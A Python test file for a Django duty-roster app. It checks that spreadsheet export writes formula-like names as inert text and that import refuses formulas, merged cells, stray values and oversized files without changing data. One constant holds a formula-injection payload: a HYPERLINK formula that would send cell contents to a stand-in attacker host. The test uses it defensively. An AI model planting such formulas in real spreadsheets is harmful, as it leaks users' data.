"""ROS-06 xlsx, the security review (issue 10, points 5 and 6): the roster workbook carries no formula
whatever the names, and the import reads every row or refuses the file, writing nothing; a roster
exported and imported again is the same roster, whatever its people are called."""

from __future__ import annotations

import contextlib
import datetime as dt
import io
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.db import transaction
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from zhiban.core.models import AuditEvent
from zhiban.core.spreadsheet import FORMULA_STARTS
from zhiban.org.tests.factories import PersonFactory
from zhiban.roster import selectors, services
from zhiban.roster.exports import printing, xlsx
from zhiban.roster.models import Assignment, RosterPeriod, RosterVersion
from zhiban.roster.tests.conftest import DECEMBER, fill_day
from zhiban.roster.tests.test_export_xlsx import night_shift

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1;"点我")'
DEC_3, DEC_4, DEC_5 = dt.date(2026, 12, 3), dt.date(2026, 12, 4), dt.date(2026, 12, 5)


@pytest.fixture(autouse=True)
def _english() -> Any:
    """The messages in their English msgids, whatever the catalogue translates."""
    with translation.override("en"):
        yield


def _state() -> tuple[int, int, list[tuple[int, int]]]:
    """What a refused import must leave alone: the duties, the audit trail and the roster versions."""
    versions = sorted(RosterVersion.objects.values_list("period_id", "number"))
    return Assignment.objects.count(), AuditEvent.objects.count(), versions


def _cells(period: RosterPeriod) -> set[tuple[dt.date, str, str, int]]:
    version = selectors.draft_of(period) or period.published_version
    return {(a.date, a.shift_type.code, a.post, a.person_id) for a in selectors.assignments_of(version)}


def _export(period: RosterPeriod) -> bytes:
    version = selectors.draft_of(period) or period.published_version
    return xlsx.workbook_bytes(printing.month_sheets(period, version))


def _import(roster_org: dict[str, Any], period: RosterPeriod, data: bytes) -> int:
    return xlsx.roster_import_xlsx(actor=roster_org["secretary"].user, period=period, data=data)


def _refused(roster_org: dict[str, Any], period: RosterPeriod, data: bytes) -> list[str]:
    before = _state()
    with pytest.raises(ValidationError) as error:
        _import(roster_org, period, data)
    assert _state() == before
    return error.value.messages


def _sheet(rows: dict[int, list[Any]], formulas: dict[str, str] | None = None) -> bytes:
    """A sheet laid out like the export, with `rows` by row number and formulas by cell."""
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.title = "2026年12月"
    ws["A1"] = "市局2026年12月值班表"
    for index, title in enumerate(printing.COLUMNS, start=1):
        ws.cell(row=2, column=index, value=title)
    for number, row in rows.items():
        for index, value in enumerate(row, start=1):
            ws.cell(row=number, column=index, value=value)
    for coordinate, formula in (formulas or {}).items():
        ws[coordinate] = formula  # openpyxl stores text starting with = as a formula, with no cached value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def assert_no_formula(data: bytes) -> None:
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), f"{ws.title}!{cell.coordinate}: {cell.value!r}"


@pytest.fixture
def empty_period(roster_org: dict[str, Any]) -> RosterPeriod:
    return services.period_open(actor=None, unit=roster_org["org"], start=DECEMBER[0], end=DECEMBER[1])


@pytest.fixture
def target(roster_org: dict[str, Any]) -> RosterPeriod:
    """Another period of the same organisation to import an export into."""
    return services.period_open(actor=None, unit=roster_org["dept_a"], start=DECEMBER[0], end=DECEMBER[1])


# ------------------------------------------------------------------------------------ point 5: no formula


def test_ros_06_export_writes_a_formula_name_as_inert_text_and_imports_it_back(
    roster_org: dict[str, Any], empty_period: RosterPeriod, target: RosterPeriod
) -> None:
    evil = PersonFactory.create(name=PAYLOAD, unit=roster_org["station_a"])
    fill_day(roster_org, empty_period, DEC_3, officer=evil)
    data = _export(empty_period)
    assert_no_formula(data)
    ws = load_workbook(io.BytesIO(data))["2026年12月"]
    assert ws["D5"].value == "'" + PAYLOAD
    assert ws["D5"].data_type == "s"
    assert _import(roster_org, target, data) == 3
    assert _cells(target) == _cells(empty_period)


def test_ros_06_import_refuses_a_formula_cell_and_keeps_the_duty_it_would_have_cleared(
    roster_org: dict[str, Any], empty_period: RosterPeriod
) -> None:
    fill_day(roster_org, empty_period, DEC_3)
    kept = _cells(empty_period)
    data = _sheet({5: [DEC_3, "", "leader", None, "", "driver"]}, formulas={"D5": "=D4"})
    messages = _refused(roster_org, empty_period, data)
    assert messages == ["2026年12月 第5行 值班人员: the cell holds a formula; type the value instead"]
    assert _cells(empty_period) == kept


def test_ros_06_import_refuses_a_formula_anywhere_in_the_sheet(
    roster_org: dict[str, Any], empty_period: RosterPeriod
) -> None:
    data = _sheet({3: [DEC_3, "", "leader", "staff_a", "", "driver"]}, formulas={"G3": "=1+1", "A1": '="市局"'})
    messages = _refused(roster_org, empty_period, data)
    assert "2026年12月 第3行 备注: the cell holds a formula; type the value instead" in messages
    assert "2026年12月 第1行 A列: the cell holds a formula; type the value instead" in messages


# ------------------------------------------------------------------------------------ point 6: every row


def test_ros_06_import_reads_the_days_after_a_blank_row(roster_org: dict[str, Any], empty_period: RosterPeriod) -> None:
    rows: dict[int, list[Any]] = {
        3: [DEC_3, "", "leader", "staff_a", "", "driver"],
        # row 4 blank
        5: [DEC_4, "", "leader", "staff_b", "", "driver"],
        7: ["值班室电话：—　传真：—"],  # the footer: text in the first cell only, not a date
    }
    assert _import(roster_org, empty_period, _sheet(rows)) == 6
    officers = {(d, p) for d, _s, post, p in _cells(empty_period) if post == "duty_officer"}
    assert officers == {(DEC_3, roster_org["staff_a"].pk), (DEC_4, roster_org["staff_b"].pk)}


def test_ros_06_import_reads_a_day_past_row_200(roster_org: dict[str, Any], empty_period: RosterPeriod) -> None:
    rows = {3: [DEC_3, "", "leader", "staff_a", "", "driver"], 260: [DEC_5, "", "leader", "staff_b", "", "driver"]}
    assert _import(roster_org, empty_period, _sheet(rows)) == 6
    assert (DEC_5, "duty", "duty_officer", roster_org["staff_b"].pk) in _cells(empty_period)


def test_ros_06_import_refuses_a_sheet_longer_than_the_limit_instead_of_cutting_it(
    roster_org: dict[str, Any], empty_period: RosterPeriod
) -> None:
    rows = {3: [DEC_3, "", "leader", "staff_a", "", "driver"], xlsx.MAX_SHEET_ROWS + 1: [DEC_5, "", "", "staff_b"]}
    messages = _refused(roster_org, empty_period, _sheet(rows))
    assert messages == [f"2026年12月: values down to row {xlsx.MAX_SHEET_ROWS + 1}; a roster sheet ends by row 400"]


def test_ros_06_import_refuses_a_day_below_the_footer_rather_than_ignore_it(
    roster_org: dict[str, Any], empty_period: RosterPeriod
) -> None:
    """Below the blank row, a row with more than footer text is a day: read, and refused when it is wrong."""
    rows: dict[int, list[Any]] = {
        3: [DEC_3, "", "leader", "staff_a", "", "driver"],
        5: ["编制：秘书处"],
        6: ["12月32日", "", "", "staff_b"],
    }
    messages = _refused(roster_org, empty_period, _sheet(rows))
    assert messages == ["2026年12月 第6行 日期: '12月32日' is not a date"]


def test_ros_06_import_refuses_merged_cells_among_the_days(
    roster_org: dict[str, Any], empty_period: RosterPeriod
) -> None:
    book = load_workbook(io.BytesIO(_sheet({3: [DEC_3, "", "leader", "staff_a", "", "driver"]})))
    book.active.merge_cells("C3:D3")
    buffer = io.BytesIO()
    book.save(buffer)
    messages = _refused(roster_org, empty_period, buffer.getvalue())
    assert messages == ["2026年12月 第3行 值班人员: merged with the cell beside it; unmerge the cells"]


def test_ros_06_import_refuses_values_outside_the_table(roster_org: dict[str, Any], empty_period: RosterPeriod) -> None:
    data = _sheet({3: [DEC_3, "", "leader", "staff_a", "", "driver", "", "staff_b"]})
    messages = _refused(roster_org, empty_period, data)
    assert messages == ["2026年12月 第3行 H列: outside the table; remove it or move it into 备注"]


def test_ros_06_import_refuses_a_file_over_the_size_limit_before_reading_it(
    roster_org: dict[str, Any], empty_period: RosterPeriod
) -> None:
    messages = _refused(roster_org, empty_period, b"x" * (2 * 1024 * 1024 + 1))
    assert messages == ["The file is larger than 2 MB."]


def test_ros_06_names_with_a_space_or_a_slash_round_trip(
    roster_org: dict[str, Any], empty_period: RosterPeriod, target: RosterPeriod
) -> None:
    night = night_shift(roster_org)
    anna = PersonFactory.create(name="Anna Schmidt", unit=roster_org["station_a"])
    slash = PersonFactory.create(name="王/李", unit=roster_org["station_a"])
    fill_day(roster_org, empty_period, DEC_3, officer=anna)
    services.assignment_set(
        actor=None, period=empty_period, day=DEC_4, shift_type=night, post="duty_officer", people=[slash, anna]
    )
    data = _export(empty_period)
    ws = load_workbook(io.BytesIO(data))["2026年12月"]
    assert ws["D6"].value in ("夜班：王/李、Anna Schmidt", "夜班：Anna Schmidt、王/李")
    _import(roster_org, target, data)
    assert _cells(target) == _cells(empty_period)


def test_ros_06_import_refuses_names_that_read_two_ways(roster_org: dict[str, Any], empty_period: RosterPeriod) -> None:
    PersonFactory.create(name="staff_a staff_b", unit=roster_org["station_a"])
    data = _sheet({3: [DEC_3, "", "leader", "staff_a staff_b", "", "driver"]})
    [message] = _refused(roster_org, empty_period, data)
    assert message.startswith("2026年12月 第3行 值班人员: “staff_a staff_b” can be read as ")
    assert message.endswith("; put each name on a line of its own")


# ------------------------------------------------------------------------------------ the property

MARKERS = "甲乙丙丁戊"
# Anything a name may hold but a line break: separators, colons, quotes, formula starts, spaces.
NAME_TEXT = st.text(alphabet=st.sampled_from(list("张王 /、,，;；:：'\"=+-@\t\u3000Ab()&.·")), max_size=6)


@st.composite
def rosters(draw: st.DrawFn) -> tuple[list[str], list[tuple[int, str, list[int]]]]:
    """Up to five people (each name holds its own marker, so that no name is other names run together)
    and the officers of the day shift and the night shift on 1–3 December."""
    count = draw(st.integers(min_value=1, max_value=len(MARKERS)))
    names = [draw(NAME_TEXT) + MARKERS[i] + draw(NAME_TEXT) for i in range(count)]
    people = st.lists(st.integers(min_value=0, max_value=count - 1), unique=True, max_size=2)
    cells = st.lists(st.tuples(st.integers(min_value=1, max_value=3), st.sampled_from(["duty", "night"]), people))
    return names, draw(cells)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(drawn=rosters())
def test_ros_06_a_roster_exported_and_imported_again_is_the_same_roster(
    roster_org: dict[str, Any], drawn: tuple[list[str], list[tuple[int, str, list[int]]]]
) -> None:
    names, cells = drawn
    with transaction.atomic():
        night = night_shift(roster_org)
        shifts = {"duty": roster_org["duty"], "night": night}
        people = [PersonFactory.create(name=name, unit=roster_org["station_a"]) for name in names]
        source = services.period_open(actor=None, unit=roster_org["org"], start=DECEMBER[0], end=DECEMBER[1])
        for day, shift, chosen in cells:
            with contextlib.suppress(ValidationError):  # what the rules refuse is simply not in the roster
                services.assignment_set(
                    actor=None,
                    period=source,
                    day=dt.date(2026, 12, day),
                    shift_type=shifts[shift],
                    post="duty_officer",
                    people=[people[i] for i in chosen][: shifts[shift].officers],
                )
        data = _export(source)
        assert_no_formula(data)
        copy = services.period_open(actor=None, unit=roster_org["dept_a"], start=DECEMBER[0], end=DECEMBER[1])
        _import(roster_org, copy, data)
        assert _cells(copy) == _cells(source)
        transaction.set_rollback(True)
